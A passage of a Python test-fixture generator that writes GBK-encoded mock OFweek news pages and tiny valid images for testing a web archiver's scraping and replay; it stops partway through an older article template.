# ruff: noqa: E501
"""Regenerate the recorded copy of OFweek in ``tests/sites/`` (run from anywhere).

    python tests/sites/make_ofweek.py          # rewrite the files
    python tests/sites/make_ofweek.py --check  # exit 1 if the committed files differ

Everything under ``tests/sites/{www,mp,ee,iot,robot,medical,images}.ofweek.com/``,
``tests/sites/ofweek-cases.yaml`` and ``tests/sites/ofweek-faults.yaml`` is written by this
script; don't edit those files by hand. The copy serves every image; the fault routes (a 404,
a dropped connection, a stall, a hotlink page) are in ``ofweek-faults.yaml``, for the tests
about failing images to add to their own copy.
The pages imitate what a recorder would have saved from the real site: GBK bytes with the
charset only in a ``<meta>`` (no charset header), full page chrome (top bar, nav, search, ads,
sidebars, share bars, related lists, footer, analytics scripts) and the selectors of
SPEC §4. Images are tiny but valid PNG/JPEG/GIF files made here with zlib/struct (no Pillow).
The cases each file exercises, and what a test can assert about them, are listed in
``ofweek-cases.yaml`` (written from the ``ARTICLES``/``LISTS`` tables below).

The seed article's body is the body of ``seeds/000_3555a7db469a33f8.txt`` (its NBSPs written
as ``&nbsp;``, as on the GBK page), so archiving its page must reproduce the seed.
"""

from __future__ import annotations

import argparse
import datetime as dt
import email.utils
import hashlib
import html
import shutil
import struct
import sys
import zlib
from pathlib import Path
from urllib.parse import quote, urlsplit

import yaml

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parent.parent))

from archiver.replay import url_to_relpath  # noqa: E402  (one mapping rule: the proxy's)

GENERATED_HOSTS = (
    "www.ofweek.com",
    "mp.ofweek.com",
    "ee.ofweek.com",
    "iot.ofweek.com",
    "robot.ofweek.com",
    "medical.ofweek.com",
    "images.ofweek.com",
)
CASES_FILE = "ofweek-cases.yaml"
FAULTS_FILE = "ofweek-faults.yaml"
BEIJING = dt.timezone(dt.timedelta(hours=8))


# --------------------------------------------------------------------------------------
# Tiny, valid image files
# --------------------------------------------------------------------------------------


def png_bytes(width: int, height: int, seed: int) -> bytes:
    """An RGB gradient PNG."""
    r0, g0, b0 = (seed * 53) % 256, (seed * 97) % 256, (seed * 151) % 256
    rows = bytearray()
    for y in range(height):
        rows.append(0)  # filter: none
        for x in range(width):
            rows += bytes(((r0 + 3 * x) % 256, (g0 + 3 * y) % 256, (b0 + x + y) % 256))

    def chunk(tag: bytes, data: bytes) -> bytes:
        crc = zlib.crc32(tag + data) & 0xFFFFFFFF
        return struct.pack(">I", len(data)) + tag + data + struct.pack(">I", crc)

    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(bytes(rows), 9))
        + chunk(b"IEND", b"")
    )


def _huffman(bits: list[int], values: list[int]) -> dict[int, tuple[int, int]]:
    codes, code, k = {}, 0, 0
    for length in range(1, 17):
        for _ in range(bits[length - 1]):
            codes[values[k]] = (code, length)
            code += 1
            k += 1
        code <<= 1
    return codes


_DC_BITS = [0, 1, 5, 1, 1, 1, 1, 1, 1, 0, 0, 0, 0, 0, 0, 0]  # the standard luminance DC table
_DC_VALUES = list(range(12))
_AC_BITS = [0, 2] + [0] * 14  # just EOB and ZRL: every block is flat
_AC_VALUES = [0x00, 0xF0]


def jpeg_bytes(width: int, height: int, seed: int, comment: str = "") -> bytes:
    """A baseline YCbCr JPEG made of flat 8x8 blocks (DC coefficients only)."""
    assert width % 8 == 0 and height % 8 == 0
    dc, ac = _huffman(_DC_BITS, _DC_VALUES), _huffman(_AC_BITS, _AC_VALUES)
    out = bytearray()
    acc = nbits = 0

    def put(value: int, length: int) -> None:
        nonlocal acc, nbits
        for i in range(length - 1, -1, -1):
            acc = (acc << 1) | ((value >> i) & 1)
            nbits += 1
            if nbits == 8:
                out.append(acc)
                if acc == 0xFF:
                    out.append(0)  # byte stuffing
                acc = nbits = 0

    pred = [0, 0, 0]
    for by in range(height // 8):
        for bx in range(width // 8):
            r = (seed * 67 + bx * 29) % 256
            g = (seed * 31 + by * 41) % 256
            b = (seed * 113 + (bx ^ by) * 17) % 256
            ycc = (
                0.299 * r + 0.587 * g + 0.114 * b,
                128 - 0.168736 * r - 0.331264 * g + 0.5 * b,
                128 + 0.5 * r - 0.418688 * g - 0.081312 * b,
            )
            for c, value in enumerate(ycc):
                coef = int(round(8 * (value - 128)))  # DC of a flat block, quantizer 1
                diff, pred[c] = coef - pred[c], coef
                cat = abs(diff).bit_length()
                put(*dc[cat])
                if cat:
                    put(diff if diff > 0 else diff + (1 << cat) - 1, cat)
                put(*ac[0x00])  # EOB
    if nbits:
        put((1 << (8 - nbits)) - 1, 8 - nbits)

    def seg(marker: int, payload: bytes) -> bytes:
        return bytes((0xFF, marker)) + struct.pack(">H", len(payload) + 2) + payload

    def dht(cls: int, bits: list[int], values: list[int]) -> bytes:
        return bytes((cls,)) + bytes(bits) + bytes(values)

    return (
        b"\xff\xd8"
        + seg(0xE0, b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00")
        + (seg(0xFE, comment.encode("ascii")) if comment else b"")
        + seg(0xDB, b"\x00" + b"\x01" * 64)
        + seg(
            0xC0,
            struct.pack(">BHHB", 8, height, width, 3) + b"\x01\x11\x00\x02\x11\x00\x03\x11\x00",
        )
        + seg(0xC4, dht(0x00, _DC_BITS, _DC_VALUES))
        + seg(0xC4, dht(0x10, _AC_BITS, _AC_VALUES))
        + seg(0xDA, b"\x03\x01\x00\x02\x00\x03\x00\x00\x3f\x00")
        + bytes(out)
        + b"\xff\xd9"
    )


def gif_bytes(width: int, height: int, seed: int) -> bytes:
    """A 4-colour GIF; LZW codes stay 3 bits wide by clearing the table every 2 pixels."""
    palette = [
        ((seed * 70 + i * 60) % 256, (seed * 30 + i * 90) % 256, (seed * 10 + i * 120) % 256)
        for i in range(4)
    ]
    pixels = [((x // 4) + (y // 4) + seed) % 4 for y in range(height) for x in range(width)]
    codes: list[int] = []
    for i in range(0, len(pixels), 2):
        codes.append(4)  # clear
        codes.extend(pixels[i : i + 2])
    codes.append(5)  # end of information
    data = bytearray()
    acc = nbits = 0
    for code in codes:
        acc |= code << nbits
        nbits += 3
        while nbits >= 8:
            data.append(acc & 0xFF)
            acc >>= 8
            nbits -= 8
    if nbits:
        data.append(acc & 0xFF)
    blocks = b"".join(
        bytes((len(data[i : i + 255]),)) + bytes(data[i : i + 255])
        for i in range(0, len(data), 255)
    )
    return (
        b"GIF89a"
        + struct.pack("<HHBBB", width, height, 0x81, 0, 0)
        + b"".join(bytes(c) for c in palette)
        + b","
        + struct.pack("<HHHHB", 0, 0, width, height, 0)
        + b"\x02"
        + blocks
        + b"\x00;"
    )


# The classic 1x1 transparent GIF: the lazy-load placeholder.
PLACEHOLDER_GIF = bytes.fromhex(
    "47494638396101000100800000ffffff00000021f90401000000002c00000000010001000002024401003b"
)


# --------------------------------------------------------------------------------------
# URLs
# --------------------------------------------------------------------------------------

NEWS_LIST = "https://www.ofweek.com/CATList-8100-CHANGYIEXINWE.html"


def news_list(n: int) -> str:
    return NEWS_LIST if n == 1 else f"https://www.ofweek.com/CATList-8100-CHANGYIEXINWE-{n}.html"


def ee_list(n: int) -> str:
    return f"https://ee.ofweek.com/CATList-2800-8100-ee-{n}.html"


SEED = "https://mp.ofweek.com/medical/a145614128367"
PORTAL = "https://ee.ofweek.com/2024-03/ART-8420-2800-30628123.html"
MULTI = "https://ee.ofweek.com/2024-02/ART-8420-2801-30624517.html"
OLD = "https://iot.ofweek.com/2018-06/ART-132216-8420-30238547.html"
UNKNOWN = "https://www.ofweek.com/ai/2023-05/ART-201700-8120-30597531.html"
HOSTILE = "https://robot.ofweek.com/2023-11/ART-8321203-8110-30616624.html"
MISSING = "https://ee.ofweek.com/2024-01/ART-8420-2800-30620001.html"
UTF8 = "https://medical.ofweek.com/2023-09/ART-11120-8440-30608765.html"
SELFMEDIA = "https://mp.ofweek.com/ee/a556714520931"
EE_ONLY = "https://ee.ofweek.com/2023-12/ART-8420-2800-30619402.html"

PLACEHOLDER = "https://www.ofweek.com/images/lazyload.gif"
IMG = "https://images.ofweek.com/Upload/News"

# Article-looking links in sidebars, "related" lists and "hot" rankings. None of them is a
# list item and none is recorded: a spider that follows them gets 404s.
SIDEBAR_LINKS = [
    (
        "https://ee.ofweek.com/2024-03/ART-8420-2800-30628412.html",
        "国产EDA工具链首次完成5纳米全流程验证",
    ),
    (
        "https://www.ofweek.com/ai/2024-03/ART-201700-8420-30628805.html",
        "多模态大模型进入工厂：视觉质检成本下降七成",
    ),
    ("https://mp.ofweek.com/auto/a756714628870", "800V高压平台普及，SiC器件迎来放量年"),
    (
        "https://robot.ofweek.com/2024-02/ART-8321203-8110-30626001.html",
        "人形机器人量产元年，谁在为关节模组买单？",
    ),
    (
        "https://medical.ofweek.com/2024-03/ART-11120-8440-30627733.html",
        "AI辅助诊断三类证获批数量创新高",
    ),
    (
        "https://iot.ofweek.com/2024-01/ART-132216-8420-30621190.html",
        "RedCap模组价格跌破百元，5G物联网迎拐点",
    ),
]


def beijing(stamp: str) -> dt.datetime:
    return dt.datetime.strptime(stamp, "%Y-%m-%d %H:%M").replace(tzinfo=BEIJING)


def rfc1123(stamp: str) -> str:
    """``2022-07-20 13:47`` (Beijing) -> ``Wed, 20 Jul 2022 05:47:00 GMT``."""
    return email.utils.format_datetime(beijing(stamp).astimezone(dt.timezone.utc), usegmt=True)


def esc(text: str) -> str:
    return html.escape(text, quote=True)


# --------------------------------------------------------------------------------------
# Page chrome (shared by all OFweek templates of the current generation)
# --------------------------------------------------------------------------------------

CHARSET_META = '<meta charset="gb2312">'
CHARSET_HTTP_EQUIV = '<meta http-equiv="Content-Type" content="text/html; charset=gb2312">'

BAIDU_TONGJI = """<script>
var _hmt = _hmt || [];
(function() {
  var hm = document.createElement("script");
  hm.src = "https://hm.baidu.com/hm.js?28a416fcfc17063eb9c4f9bb1a1f5cda";
  var s = document.getElementsByTagName("script")[0];
  s.parentNode.insertBefore(hm, s);
})();
</script>"""

FOOTER_SCRIPTS = """<script type="text/javascript" src="https://www.ofweek.com/js/common.js?v=20240301"></script>
<script type="text/javascript" src="https://www.ofweek.com/js/jquery.lazyload.min.js"></script>
<script type="text/javascript">
$(function () {
  $("img.lazy").lazyload({ effect: "fadeIn", threshold: 200 });
  $("#loginBtn").click(function () { showLoginBox(); return false; });
  if (window.location.hash == "#comment") { $("#commentBox textarea").focus(); }
});
document.write('<div style="display:none"><img src="https://stat.ofweek.com/count.gif?t=' + new Date().getTime() + '"></div>');
</script>"""


def page_head(
    title: str,
    *,
    keywords: str,
    description: str,
    canonical: str,
    charset: str = CHARSET_META,
    css: str = "article",
    extra: str = "",
) -> str:
    mobile = canonical.replace("https://www.", "https://m.").replace("https://ee.", "https://m.ee.")
    return f"""<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">
<html xmlns="http://www.w3.org/1999/xhtml">
<head>
{charset}
<title>{esc(title)}</title>
<meta name="keywords" content="{esc(keywords)}" />
<meta name="description" content="{esc(description)}" />
<meta name="applicable-device" content="pc" />
<meta http-equiv="mobile-agent" content="format=html5; url={esc(mobile)}" />
<meta http-equiv="X-UA-Compatible" content="IE=edge" />
<link rel="canonical" href="{esc(canonical)}" />
<link rel="shortcut icon" href="https://www.ofweek.com/favicon.ico" />
<link rel="stylesheet" type="text/css" href="https://www.ofweek.com/css/common.css?v=20240301" />
<link rel="stylesheet" type="text/css" href="https://www.ofweek.com/css/{css}.css?v=20240301" />
<script type="text/javascript" src="https://www.ofweek.com/js/jquery-1.8.3.min.js"></script>
{extra}{BAIDU_TONGJI}
</head>
"""


def top_bar() -> str:
    return """<div class="top-bar">
  <div class="w1200 clearfix">
    <div class="fl top-left">
      <a href="https://www.ofweek.com/" target="_blank">OFweek维科网首页</a><span>|</span>
      <a href="https://mp.ofweek.com/" target="_blank">维科号</a><span>|</span>
      <a href="https://www.ofweek.com/ai/" target="_blank">人工智能</a><span>|</span>
      <a href="https://ee.ofweek.com/" target="_blank">电子工程</a><span>|</span>
      <a href="https://iot.ofweek.com/" target="_blank">物联网</a><span>|</span>
      <a href="https://robot.ofweek.com/" target="_blank">机器人</a><span>|</span>
      <a href="https://medical.ofweek.com/" target="_blank">医疗科技</a><span>|</span>
      <a href="https://seminar.ofweek.com/" target="_blank">在线研讨会</a><span>|</span>
      <a href="https://www.ofweek.com/report/" target="_blank">研究报告</a>
    </div>
    <div class="fr top-right">
      <a href="javascript:void(0)" id="loginBtn" rel="nofollow">登录</a>
      <a href="https://passport.ofweek.com/reg.do?service=https%3A%2F%2Fwww.ofweek.com%2F" target="_blank" rel="nofollow">免费注册</a>
      <a href="https://www.ofweek.com/about/aboutus.html" target="_blank">关于我们</a>
      <a href="#" class="app-down">APP下载<span class="qr"><img src="https://www.ofweek.com/images/app_qr.png" alt="扫码下载APP" /></span></a>
      <a href="https://weibo.com/ofweek" target="_blank" rel="nofollow">官方微博</a>
      <a href="javascript:;" class="wx">微信公众号</a>
    </div>
  </div>
</div>
"""


def header(channel: str, channel_url: str) -> str:
    return f"""<div class="header w1200 clearfix">
  <div class="logo fl">
    <a href="https://www.ofweek.com/" title="OFweek维科网"><img src="https://www.ofweek.com/images/logo.png" alt="OFweek维科网" /></a>
    <a href="{channel_url}" class="channel-name">{channel}</a>
  </div>
  <div class="search fl">
    <form action="https://www.ofweek.com/newquery.action" method="get" target="_blank" id="searchForm">
      <input type="text" name="keywords" class="search-input" placeholder="搜索资讯、维科号、研究报告" autocomplete="off" />
      <input type="hidden" name="type" value="1" />
      <button type="submit" class="search-btn">搜索</button>
    </form>
    <div class="hot-words">热搜：<a href="https://www.ofweek.com/tag-%E8%8A%AF%E7%89%87.HTM" target="_blank">芯片</a><a href="https://www.ofweek.com/tag-%E5%A4%A7%E6%A8%A1%E5%9E%8B.HTM" target="_blank">大模型</a><a href="https://www.ofweek.com/tag-%E4%BA%BA%E5%BD%A2%E6%9C%BA%E5%99%A8%E4%BA%BA.HTM" target="_blank">人形机器人</a></div>
  </div>
  <div class="ad-top fr" id="ad_top_468">
    <a href="https://www.baidu.com/baidu.php?url=a00000ofweek" target="_blank" rel="nofollow"><img src="https://images.ofweek.com/Upload/ad/2024/03/ad_top_468x60.gif" width="468" height="60" alt="广告" /></a>
  </div>
</div>
<div class="nav">
  <ul class="w1200 clearfix">
    <li><a href="https://www.ofweek.com/">首页</a></li>
    <li class="on"><a href="https://www.ofweek.com/CATList-8100-CHANGYIEXINWE.html">资讯</a></li>
    <li><a href="https://mp.ofweek.com/">维科号</a></li>
    <li><a href="https://ee.ofweek.com/">电子工程</a></li>
    <li><a href="https://www.ofweek.com/ai/">人工智能</a></li>
    <li><a href="https://iot.ofweek.com/">物联网</a></li>
    <li><a href="https://robot.ofweek.com/">机器人</a></li>
    <li><a href="https://medical.ofweek.com/">医疗科技</a></li>
    <li><a href="https://nev.ofweek.com/">新能源汽车</a></li>
    <li><a href="https://www.ofweek.com/report/">报告</a></li>
    <li><a href="https://seminar.ofweek.com/">研讨会</a></li>
    <li><a href="https://www.vicoo.cn/" target="_blank">维科杯</a></li>
    <li><a href="javascript:void(0)" class="more">更多</a></li>
  </ul>
</div>
"""


def footer() -> str:
    return f"""<div class="footer">
  <div class="w1200">
    <div class="friend-links">友情链接：<a href="https://www.ofweek.com/" target="_blank">OFweek维科网</a><a href="https://www.vicoo.cn/" target="_blank">维科杯</a><a href="https://www.eepw.com.cn/" target="_blank" rel="nofollow">电子产品世界</a><a href="https://www.eet-china.com/" target="_blank" rel="nofollow">电子工程专辑</a><a href="https://www.sohu.com/" target="_blank" rel="nofollow">搜狐科技</a></div>
    <p class="footer-links">
      <a href="https://www.ofweek.com/about/aboutus.html" target="_blank">关于我们</a>|
      <a href="https://www.ofweek.com/about/contact.html" target="_blank">联系我们</a>|
      <a href="https://www.ofweek.com/about/ad.html" target="_blank">广告服务</a>|
      <a href="https://www.ofweek.com/about/job.html" target="_blank">诚聘英才</a>|
      <a href="https://www.ofweek.com/about/copyright.html" target="_blank">版权声明</a>|
      <a href="https://www.ofweek.com/sitemap.html" target="_blank">网站地图</a>|
      <a href="https://www.ofweek.com/about/feedback.html" target="_blank">意见反馈</a>
    </p>
    <p>Copyright © 2006-2024 OFweek维科网 All Rights Reserved. 深圳市维科网科技有限公司 <a href="https://beian.miit.gov.cn/" target="_blank" rel="nofollow">粤ICP备06087881号</a></p>
    <p>服务热线：400-668-2000 投稿邮箱：tougao@ofweek.com 不良信息举报：jubao@ofweek.com</p>
  </div>
</div>
<div class="side-float">
  <a href="javascript:scroll(0,0)" class="gotop">返回顶部</a>
  <a href="https://www.ofweek.com/about/feedback.html" class="feedback" target="_blank">意见反馈</a>
  <a href="#" class="mobile">手机版</a>
</div>
{FOOTER_SCRIPTS}
</body>
</html>
"""


def hot_sidebar(title: str = "热门排行") -> str:
    items = "\n".join(
        f'      <li><em class="num{i}">{i}</em><a href="{url}" target="_blank" title="{esc(text)}">{esc(text)}</a></li>'
        for i, (url, text) in enumerate(SIDEBAR_LINKS, 1)
    )
    return f"""<div class="side-box hot-rank">
    <div class="side-title"><span>{title}</span><a href="https://www.ofweek.com/CATList-8100-CHANGYIEXINWE.html" class="more">更多&gt;&gt;</a></div>
    <ul>
{items}
    </ul>
  </div>
  <div class="side-ad"><a href="https://www.baidu.com/baidu.php?url=b00000ofweek" target="_blank" rel="nofollow"><img src="https://images.ofweek.com/Upload/ad/2024/03/ad_side_300x250.jpg" width="300" height="250" alt="广告" /></a></div>
  <div class="side-box seminar">
    <div class="side-title"><span>在线研讨会</span></div>
    <ul>
      <li><a href="https://seminar.ofweek.com/Seminar-ee-2403.html" target="_blank">【在线研讨会】车规级功率器件可靠性测试方案</a></li>
      <li><a href="https://seminar.ofweek.com/Seminar-ai-2403.html" target="_blank">【在线研讨会】边缘AI推理部署实战</a></li>
    </ul>
  </div>
  <div class="side-box weixin">
    <div class="side-title"><span>关注维科网</span></div>
    <img src="https://www.ofweek.com/images/weixin_qr.jpg" alt="OFweek维科网微信公众号" width="120" height="120" />
    <p>扫码关注公众号，获取最新产业资讯</p>
  </div>"""


def share_bar() -> str:
    return """<div class="share clearfix">
        <span class="fl">分享到：</span>
        <div class="bdsharebuttonbox fl">
          <a href="#" class="bds_weixin" data-cmd="weixin" title="分享到微信"></a>
          <a href="#" class="bds_tsina" data-cmd="tsina" title="分享到新浪微博"></a>
          <a href="#" class="bds_qzone" data-cmd="qzone" title="分享到QQ空间"></a>
          <a href="#" class="bds_more" data-cmd="more"></a>
        </div>
        <a href="javascript:void(0)" class="collect fr" onclick="addFavorite()">收藏</a>
        <a href="javascript:void(0)" class="zan fr" onclick="doZan(this)">点赞 <em>36</em></a>
      </div>
      <script>window._bd_share_config={"common":{"bdSnsKey":{},"bdText":"","bdMini":"2","bdPic":"","bdStyle":"0","bdSize":"24"},"share":{}};with(document)0[(getElementsByTagName('head')[0]||body).appendChild(createElement('script')).src='https://www.ofweek.com/static/api/js/share.js?v=89860593.js?cdnversion='+~(-new Date()/36e5)];</script>"""


def related_box(links: list[tuple[str, str, str]], title: str = "相关阅读") -> str:
    items = "\n".join(
        f'        <li><a href="{url}" target="_blank" title="{esc(text)}">{esc(text)}</a><span class="date">{date}</span></li>'
        for url, text, date in links
    )
    return f"""<div class="related">
      <div class="related-title"><span>{title}</span></div>
      <ul class="clearfix">
{items}
      </ul>
    </div>"""


def comment_box() -> str:
    return """<div class="comment" id="commentBox">
      <div class="comment-title"><span>评论</span><em>（0）</em></div>
      <form action="https://www.ofweek.com/comment/add.do" method="post" onsubmit="return checkComment(this)">
        <textarea name="content" placeholder="文明上网，理性发言"></textarea>
        <div class="comment-btn clearfix"><span class="fl">登录后才能发表评论</span><input type="submit" value="发表评论" class="fr" /></div>
      </form>
      <div class="comment-list"><p class="empty">暂无评论，快来抢沙发吧！</p></div>
    </div>"""


def tag_links(tags: list[str], channel_dir: str) -> str:
    links = "".join(
        f'<a href="https://www.ofweek.com/{channel_dir}/tag-{quote(t)}.HTM" target="_blank" title="{esc(t)}">{esc(t)}</a>'
        for t in tags
    )
    return f'<div class="tag clearfix"><span>标签：</span>{links}</div>'


# --------------------------------------------------------------------------------------
# Page templates
# --------------------------------------------------------------------------------------


def news_list_page(n: int, last: int, items: list[dict]) -> str:
    """www.ofweek.com/CATList-8100-CHANGYIEXINWE[-n].html"""
    rows = []
    for it in items:
        href = it.get("href", it["url"])
        tag_html = "".join(
            f'<a href="https://www.ofweek.com/tag-{quote(t)}.HTM" target="_blank">{esc(t)}</a>'
            for t in it.get("tags", [])
        )
        rows.append(f"""      <div class="con-details clearfix">
        <div class="con-details-img fl"><a href="{esc(href)}" target="_blank"><img src="{esc(it["thumb"])}" alt="{esc(it["title"])}" width="200" height="133" /></a></div>
        <div class="con-details-cnt fr">
          <h3><a href="{esc(href)}" target="_blank" title="{esc(it["title"])}">{esc(it["title"])}</a></h3>
          <p class="con-details-summary">{esc(it["summary"])}</p>
          <div class="con-details-bottom clearfix">
            <div class="fl"><span class="fb-tl">{it["date"]}</span><span class="con-source">{esc(it["source"])}</span></div>
            <div class="fr con-tags">{tag_html}</div>
          </div>
        </div>
      </div>""")

    def rel(i: int) -> str:  # the pager links site-relative: /CATList-8100-CHANGYIEXINWE-2.html
        return news_list(i).removeprefix("https://www.ofweek.com")

    pager = ['<div class="list-num">']
    if n > 1:
        pager.append(f'<a href="{rel(1)}">首页</a>')
        pager.append(f'<a href="{rel(n - 1)}" class="prev">上一页</a>')
    for i in range(1, last + 1):
        pager.append(f'<span class="cur">{i}</span>' if i == n else f'<a href="{rel(i)}">{i}</a>')
    if n < last:
        pager.append(f'<a href="{rel(n + 1)}" class="next">下一页</a>')
        pager.append(f'<a href="{rel(last)}">尾页</a>')
    pager.append("</div>")
    title = "高科技行业门户" + ("" if n == 1 else f"_第{n}页") + "-OFweek维科网"
    return (
        page_head(
            title,
            keywords="高科技,行业门户,科技资讯,OFweek",
            description="OFweek维科网高科技行业门户，提供电子、人工智能、物联网、机器人、医疗科技等高科技产业的最新资讯。",
            canonical=news_list(n),
            css="list",
        )
        + "<body>\n"
        + top_bar()
        + header("资讯", NEWS_LIST)
        + f"""<div class="main w1200 clearfix">
  <div class="crumbs"><a href="https://www.ofweek.com/">首页</a> &gt; <span>资讯</span></div>
  <div class="list-left fl">
    <div class="list-tab clearfix">
      <a href="{NEWS_LIST}" class="on">最新</a>
      <a href="https://www.ofweek.com/CATList-8100-CHANGYIEXINWE-hot.html">热门</a>
      <a href="https://mp.ofweek.com/" target="_blank">维科号</a>
      <a href="javascript:void(0)" class="rss">RSS订阅</a>
    </div>
    <div class="list-con">
"""
        + "\n".join(rows)
        + f"""
    </div>
    {"".join(pager)}
  </div>
  <div class="list-right fr">
  {hot_sidebar()}
  </div>
</div>
"""
        + footer()
    )


def ee_list_page(n: int, last: int, items: list[dict]) -> str:
    """ee.ofweek.com/CATList-2800-8100-ee-n.html (channel sub-site template)."""
    rows = []
    for it in items:
        href = it.get("href", it["url"])
        rows.append(f"""    <div class="list_model">
      <div class="model_left"><a href="{esc(href)}" target="_blank"><img src="{esc(it["thumb"])}" alt="{esc(it["title"])}" /></a></div>
      <div class="model_right model_right2">
        <h3><a href="{esc(href)}" target="_blank" title="{esc(it["title"])}">{esc(it["title"])}</a></h3>
        <p>{esc(it["summary"])}</p>
        <div class="tag"><span class="date">{it["date"]}</span>{"".join(f'<a href="https://www.ofweek.com/ee/tag-{quote(t)}.HTM" target="_blank">{esc(t)}</a>' for t in it.get("tags", []))}</div>
      </div>
    </div>""")
    pager = ['<div class="list-num">']
    if n > 1:
        pager.append(f'<a href="CATList-2800-8100-ee-{n - 1}.html" class="prev">上一页</a>')
    for i in range(1, last + 1):
        pager.append(
            f'<span class="cur">{i}</span>'
            if i == n
            else f'<a href="CATList-2800-8100-ee-{i}.html">{i}</a>'
        )
    if n < last:
        pager.append(f'<a href="CATList-2800-8100-ee-{n + 1}.html" class="next">下一页</a>')
    pager.append("</div>")
    return (
        page_head(
            f"电子工程资讯_第{n}页-OFweek电子工程网",
            keywords="电子工程,半导体,芯片,元器件",
            description="OFweek电子工程网资讯频道：半导体、芯片设计、制造与封测、元器件与电子制造最新动态。",
            canonical=ee_list(n),
            css="ee_list",
        )
        + "<body>\n"
        + top_bar()
        + header("电子工程", "https://ee.ofweek.com/")
        + """<div class="main w1200 clearfix">
  <div class="crumbs"><a href="https://www.ofweek.com/">OFweek首页</a> &gt; <a href="https://ee.ofweek.com/">电子工程</a> &gt; <span>资讯</span></div>
  <div class="main_left">
    <div class="focus-ad"><a href="https://www.baidu.com/baidu.php?url=c00000ofweek" target="_blank" rel="nofollow"><img src="https://images.ofweek.com/Upload/ad/2024/03/ee_banner_820x90.jpg" alt="广告" /></a></div>
"""
        + "\n".join(rows)
        + f"""
    {"".join(pager)}
  </div>
  <div class="main_right">
  {hot_sidebar("电子工程热门")}
  </div>
</div>
"""
        + footer()
    )


def current_article(
    art: dict,
    *,
    body: str,
    page_url: str,
    after_body: str = "",
    inside_after: str = "",
    prev_next: str = "",
    charset: str = CHARSET_META,
) -> str:
    """The current (2020-) article template: div.artical / p.title / div.time.fl / ..."""
    time_html = f"\n          {art['date']}\n        " if art.get("time_padding") else art["date"]
    source = art["source"]
    source_html = (
        f'<a href="{art["source_url"]}" target="_blank">{esc(source)}</a>'
        if art.get("source_url")
        else esc(source)
    )
    crumbs = (
        " &gt; ".join(f'<a href="{u}">{esc(t)}</a>' for u, t in art["crumbs"])
        + " &gt; <span>正文</span>"
    )
    author_card = ""
    if art.get("mp"):
        author_card = f"""<div class="side-box author-card">
    <div class="author-avatar"><img src="https://mp.ofweek.com/Upload/member/avatar/{art["member"]}.jpg" alt="{esc(source)}" /></div>
    <p class="author-name"><a href="{art.get("source_url", "https://mp.ofweek.com/")}" target="_blank">{esc(source)}</a></p>
    <p class="author-stats"><span>文章 <em>1268</em></span><span>粉丝 <em>3.2万</em></span></p>
    <a href="javascript:void(0)" class="follow-btn" onclick="follow({art["member"]})">+ 关注</a>
  </div>
  """
    return (
        page_head(
            f"{art['title']} - {art['site_name']}",
            keywords=",".join(art["tags"]),
            description=art["summary"],
            canonical=page_url,
            charset=charset,
        )
        + "<body>\n"
        + top_bar()
        + header(art["channel"], art["channel_url"])
        + f"""<div class="main w1200 clearfix">
  <div class="crumbs">{crumbs}</div>
  <div class="main-left fl">
    <div class="artical">
      <p class="title">{esc(art["title"])}</p>
      <div class="artical-relative clearfix">
        <div class="time fl">{time_html}</div>
        <div class="source fl"><span>来源：</span><div class="source-name">{source_html}</div></div>
        <div class="read-num fl">阅读 <em>{art.get("reads", 2437)}</em></div>
        <div class="fr artical-share-top"><a href="javascript:void(0)" class="font-size" onclick="setFontSize()">A</a><a href="#commentBox" class="to-comment">评论</a></div>
      </div>
      <div class="artical-content">
        <div class="article_con" id="articleC">{body}{inside_after}</div>
        {after_body}
      </div>
      {tag_links(art["tags"], art["tag_dir"])}
      {share_bar()}
    </div>
    {prev_next}
    {related_box(art["related"])}
    {comment_box()}
  </div>
  <div class="main-right fr">
  {author_card}{hot_sidebar()}
  </div>
</div>
"""
        + footer()
    )


def prev_next_box(prev: tuple[str, str] | None, nxt: tuple[str, str] | None) -> str:
    parts = ['<div class="prev-next">']
    if prev:
        parts.append(f'<p>上一篇：<a href="{prev[0]}" target="_blank">{esc(prev[1])}</a></p>')
    if nxt:
        parts.append(f'<p>下一篇：<a href="{nxt[0]}" target="_blank">{esc(nxt[1])}</a></p>')
    parts.append("</div>")
    return "".join(parts)


def old_article(art: dict, *, body: str, page_url: str, lead: str | None, pager: str) -> str:
    """The 2017-2019 template: div.article_left h1 / span.sdate / #laiyuan span / div.simple."""
    lead_html = f'<div class="simple"><p>{esc(lead)}</p></div>' if lead else ""
    return f"""<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">
<html xmlns="http://www.w3.org/1999/xhtml">
<head>
{CHARSET_HTTP_EQUIV}
<title>{esc(art["title"])} - OFweek物联网</title>
<meta name="keywords" content="{esc(",".join(art["tags"]))}" />
<meta name="description" content="{esc(art["summary"])}" />
<link href="http://iot.ofweek.com/css/article2017.css" rel="stylesheet" type="text/css" />
<script type="text/javascript" src="http://www.ofweek.com/js/jquery-1.7.2.min.js"></script>
<script type="text/javascript">var articleId = "30238547"; var channelId = "132216";</script>
</head>
<body>
<div id="topbar"><div class="w1000"><a href="http://www.ofweek.com/">OFweek首页</a> | <a href="http://iot.ofweek.com/">物联网</a> | <a href="javascript:void(0)" onclick="login()">登录</a> | <a href="http://passport.ofweek.com/reg.do" rel="nofollow">注册</a></div></div>
<div id="header" class="w1000"><a href="http://iot.ofweek.com/" class="logo"><img src="http://iot.ofweek.com/images/logo_iot.gif" alt="OFweek物联网" /></a>
<div class="banner"><a href="http://www.baidu.com/baidu.php?url=d00000ofweek" target="_blank"><img src="http://images.ofweek.com/Upload/ad/2018/iot_banner.gif" alt="" /></a></div></div>
<div id="nav" class="w1000"><a href="http://iot.ofweek.com/">首页</a><a href="http://iot.ofweek.com/CATList-132216-8100-iot.html">资讯</a><a href="http://iot.ofweek.com/CATList-132200-8200-iot.html">技术</a><a href="http://iot.ofweek.com/CATList-132201-8300-iot.html">应用</a><a href="http://seminar.ofweek.com/">研讨会</a></div>
<div class="main w1000 clearfix">
  <div class="article_left fl">
    <div class="position gray">当前位置：<a href="http://www.ofweek.com/">OFweek首页</a> &gt; <a href="http://iot.ofweek.com/">物联网</a> &gt; <a href="http://iot.ofweek.com/CATList-132216-8100-iot.html">资讯</a> &gt; 正文</div>
